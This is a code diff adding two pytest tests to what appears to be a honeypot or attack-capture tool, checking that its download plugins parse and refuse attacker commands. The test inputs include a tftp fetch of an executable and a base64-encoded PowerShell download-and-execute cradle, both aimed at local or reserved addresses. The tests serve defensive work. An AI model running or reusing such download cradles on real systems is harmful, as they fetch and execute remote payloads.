@@ -340,3 +340,20 @@ def test_empty_and_nul_payloads_pass_quietly(payload: bytes) -> None:
     plugins = [spec("b64Decode"), spec("deUnicode"), spec("xmatch"), spec("vncDownload")]
     root, seen = run(plugins, payload)
     assert seen.virtuals() == []
+
+
+def test_vnc_typed_command_reaches_the_downloaders() -> None:
+    """The typed tftp line is parsed by tftpDownload; the policy refuses the non-global host,
+    and the refused try is on the root attack (no traffic is sent)."""
+    plugins = [spec("vncDownload"), spec("tftpDownload")]
+    root, seen = run(plugins, vnc_session("tftp -i 198.18.0.1 GET x.exe"))
+    assert [(t.type, t.host, t.outcome) for t in root.download_tries] == [
+        ("tftp", "198.18.0.1", "refused")
+    ]
+
+
+def test_powershell_download_cradle_reaches_the_downloaders() -> None:
+    script = "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:8080/p.ps1')"
+    payload = b"powershell -enc " + base64.b64encode(script.encode("utf-16-le"))
+    root, seen = run([spec("b64Decode"), spec("httpDownload")], payload)
+    assert [(t.type, t.outcome) for t in root.download_tries] == [("http", "refused")]
